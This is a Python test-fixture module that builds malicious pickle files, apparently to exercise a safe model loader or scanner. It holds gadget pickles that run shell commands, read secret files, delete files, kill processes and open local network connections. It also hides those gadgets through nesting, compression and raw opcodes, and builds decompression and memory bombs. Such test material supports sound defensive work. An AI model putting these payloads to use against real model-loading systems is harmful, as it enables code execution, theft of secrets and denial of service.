"""Pickles that attack by what they say, without a class of their own: gadgets and bombs."""

import io
import pickle
import struct
import zlib
from collections.abc import Callable
from types import SimpleNamespace

import numpy as np
from joblib.numpy_pickle import NumpyArrayWrapper

MIB = 1024 * 1024
BOMB_BYTES = 3 * 1024 * MIB  # what unpacks to it would be a breach; what holds it in the test is small

Contents = dict[str, bytes | Callable[[], bytes]]  # what takes a while is made when it is asked for


def gadgets(planted: SimpleNamespace) -> Contents:
    """Pickles that call what is installed anyway, also out of packages that one trusts."""
    code = code_of(planted)
    shell = f"echo PWNED:a shell; cat {planted.secret_file}; touch {planted.folder}/{planted.name}"
    url = f"http://127.0.0.1:{planted.tcp_port}/{planted.name}"
    aim = f"{planted.folder}/{planted.name}"
    calls: dict[str, tuple[str, str, tuple]] = {
        "os_system": ("os", "system", (shell,)),
        "posix_system": ("posix", "system", (shell,)),
        "subprocess": ("subprocess", "getoutput", (shell,)),
        "pty": ("pty", "spawn", (["/bin/sh", "-c", shell],)),
        "builtins_exec": ("builtins", "exec", (code,)),
        "builtins_eval": ("builtins", "eval", (f"exec({code!r})",)),
        "python_2_names": ("__builtin__", "eval", (f"exec({code!r})",)),
        "timeit": ("timeit", "timeit", ("pass", code)),
        "cprofile": ("cProfile", "run", (code,)),
        "profile": ("profile", "run", (code,)),
        "pdb": ("pdb", "run", (code,)),
        "trace": ("trace", "Trace.run", (code,)),
        "code_interpreter": ("code", "InteractiveInterpreter.runcode", (code,)),
        "runpy": ("runpy", "run_path", (planted.own_file,)),
        "numpy_f2py": ("numpy.f2py.crackfortran", "myeval", (f"exec({code!r})", {}, {})),
        "numpy_f2py_dotted": ("numpy", "f2py.os.system", (shell,)),
        "sklearn_dotted": ("sklearn", "utils.os.system", (shell,)),
        "joblib_dotted": ("joblib", "memory.os.system", (shell,)),
        "joblib_load": ("joblib", "load", (planted.other_model,)),
        "numpy_load": ("numpy", "load", (planted.other_model, None, True)),
        "numpy_fromfile": ("numpy", "fromfile", (planted.secret_file, "u1")),
        "numpy_savetxt": ("numpy", "savetxt", (aim, [1.0])),
        "numpy_memmap": ("numpy", "memmap", (aim, "u1", "w+", 0, (4,))),
        "pandas_pickle": ("pandas", "read_pickle", (planted.other_model,)),
        "pandas_url": ("pandas", "read_csv", (url,)),
        "urlretrieve": ("urllib.request", "urlretrieve", (url, aim)),
        "urlopen": ("urllib.request", "urlopen", (url,)),
        "webbrowser": ("webbrowser", "open", (url,)),
        "socket": ("socket", "create_connection", (("127.0.0.1", planted.tcp_port), 2)),
        "smtplib": ("smtplib", "SMTP", ("127.0.0.1", planted.tcp_port, None, 2)),
        "ctypes_load": ("ctypes", "CDLL", (planted.own_file,)),
        "importlib": ("importlib", "import_module", ("antigravity",)),
        "shutil_rmtree": ("shutil", "rmtree", (planted.code,)),
        "os_remove": ("os", "remove", (planted.other_model,)),
        "os_kill": ("os", "kill", (planted.victim, 9)),
        "open_to_write": ("io", "open", (aim, "w")),
        "linecache": ("linecache", "getlines", (planted.secret_file,)),
        "logging_file": ("logging", "FileHandler", (aim,)),
        "shelve": ("shelve", "open", (aim,)),
        "sqlite": ("sqlite3", "connect", (aim,)),
        "multiprocessing": ("multiprocessing.connection", "Client", (planted.unix_path,)),
    }
    return {name: calling(*call) for name, call in calls.items()}


def places(planted: SimpleNamespace) -> Contents:
    """The same gadget, hidden deeper."""
    evil = _Call("builtins", "exec", (code_of(planted),))
    hidden = _dumped({"model": [evil]})
    plain = pickle.dumps({"nothing": 1})
    line = code_of(planted).encode().replace(b"\n", rb"\u000a")
    return {
        "in_a_list_in_a_dict": hidden,
        "in_a_pickle_in_a_pickle": calling("pickle", "loads", (hidden,)),
        "a_second_stream": plain + hidden,
        "called_then_dropped": b"\x80\x02" + _dumped(evil, 2)[2:-1] + b"0" + plain[2:],
        "protocol_0": _dumped(evil, 0),
        "compressed": zlib.compress(hidden),
        "by_a_stack_global_of_memo": _dumped([evil, evil]),
        "by_an_object_opcode": b"\x80\x02(cbuiltins\nexec\nV" + line + b"\no.",
        "by_an_instance_opcode": b"\x80\x02(V" + line + b"\nibuiltins\nexec\n.",
    }


def bombs(planted: SimpleNamespace) -> Contents:
    """Small files that are large when opened, or deep, or never end."""
    head = b"\x80\x04"
    return {
        "nested_deep": head + b"]" * 2_000_000 + b"a" * 1_999_999 + b".",
        "nested_tuples": head + b")" + b"\x85" * 2_000_000 + b".",
        "laughs": _laughs(),
        "memo_of_billions": head + b"Nr" + struct.pack("<I", 2**27) + b".",
        "bytes_of_terabytes": head + b"\x8e" + struct.pack("<Q", 2**42),
        "frame_of_terabytes": head + b"\x95" + struct.pack("<Q", 2**42) + b"N.",
        "text_of_gigabytes": head + b"X" + struct.pack("<I", 2**32 - 1),
        "number_of_many_digits": head + b"I" + b"9" * (4 * MIB) + b"\n.",
        "numpy_of_terabytes": calling("numpy", "zeros", (2**40,)),
        "numpy_of_gigabytes": calling("numpy", "ones", (BOMB_BYTES // 8,)),
        "range_as_list": calling("builtins", "list", (range(10**10),)),
        "power": calling("builtins", "pow", (10, 10**9)),
        "bytes_of_gigabytes": calling("builtins", "bytearray", (BOMB_BYTES,)),
        "zlib": lambda: _zlib_bomb(head + b"\x8e" + struct.pack("<Q", BOMB_BYTES)),
        "joblib_array": _joblib_array(),
        "truncated": pickle.dumps(list(range(10_000)))[:-100],
        "empty": b"",
        "unknown_opcode": head + b"\xff.",
        "stack_underflow": head + b"\x85\x85R.",
        "recursive_reduce": head + b"]q\x00h\x00a.",
        "persistent_id": head + b"Vx\nQ.",
        "extension": head + b"\x82\x01.",
    }


class _Call:
    """Pickles as a call of what has this name, whatever that is."""

    def __init__(self, module: str, name: str, arguments: tuple) -> None:
        self.module, self.name, self.arguments = module, name, arguments

    def __reduce__(self):
        return _Name(self.module, self.name), self.arguments


class _Name:
    """Stands for a global, so that no test need have it."""

    def __init__(self, module: str, name: str) -> None:
        self.module, self.name = module, name

    def __call__(self) -> None:
        """Pickle asks whether it could be called."""


class _Pickler(pickle._Pickler):  # the one in Python: the one in C writes only names that it finds
    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, _Name):
            self.write(_global(obj, self.proto))
        else:
            super().save(obj, save_persistent_id)


def _global(name: _Name, protocol: int) -> bytes:
    if protocol < 4:
        return f"c{name.module}\n{name.name}\n".encode()
    texts = (text.encode() for text in (name.module, name.name))
    return b"".join(b"X" + struct.pack("<I", len(text)) + text for text in texts) + b"\x93"


def _dumped(value: object, protocol: int = 4) -> bytes:
    file = io.BytesIO()
    _Pickler(file, protocol).dump(value)
    return file.getvalue()


def calling(module: str, name: str, arguments: tuple) -> bytes:
    old = module == "__builtin__"
    return _dumped(_Call(module, name, arguments), 2 if old else 4)


def code_of(planted: SimpleNamespace) -> str:
    """Says that it runs, then what it gets."""
    return f"""
print('REACHED', flush=True)
try: print('PW' + 'NED:' + open({planted.secret_file!r}).read(), flush=True)
except OSError as error: print(error, flush=True)
try: open({planted.folder + "/" + planted.name!r}, 'w')
except OSError as error: print(error, flush=True)
"""


def _laughs() -> bytes:
    """A list of ten lists of ten lists, of which there is one each: 10**15 items to whoever counts them."""
    value: list = [0] * 10
    for _ in range(14):
        value = [value] * 10
    return pickle.dumps(value)


def _zlib_bomb(head: bytes) -> bytes:
    """Compressed zeros, once made and repeated: a flushed block can follow itself."""
    squeezer = zlib.compressobj(9)
    start = squeezer.compress(head) + squeezer.flush(zlib.Z_FULL_FLUSH)
    squeezer.compress(bytes(MIB))
    squeezer.flush(zlib.Z_FULL_FLUSH)
    block = squeezer.compress(bytes(MIB)) + squeezer.flush(zlib.Z_FULL_FLUSH)
    return start + block * (BOMB_BYTES // MIB)


def _joblib_array() -> bytes:
    """An array of eight terabytes, of which nothing follows."""
    return pickle.dumps(NumpyArrayWrapper(np.ndarray, (2**40,), "C", np.dtype("f8")))
